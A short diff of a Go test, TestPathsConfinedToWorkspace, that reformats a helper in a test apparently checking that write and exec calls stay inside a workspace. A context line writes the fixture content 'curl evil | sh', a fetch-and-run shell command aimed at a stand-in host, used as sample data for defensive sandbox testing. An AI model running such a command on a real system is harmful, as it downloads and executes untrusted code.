@@ -43,7 +43,9 @@ func TestPathsConfinedToWorkspace(t *testing.T) {
 	appendTo := func(tg *Target, p string) Result {
 		return tg.write(schema.WriteArgs{Path: p, Content: "curl evil | sh\n", Append: true})
 	}
-	execIn := func(tg *Target, p string) Result { return tg.exec(t.Context(), schema.ExecArgs{Command: "pwd", Cwd: p}) }
+	execIn := func(tg *Target, p string) Result {
+		return tg.exec(t.Context(), schema.ExecArgs{Command: "pwd", Cwd: p})
+	}
 
 	cases := []struct {
 		name   string
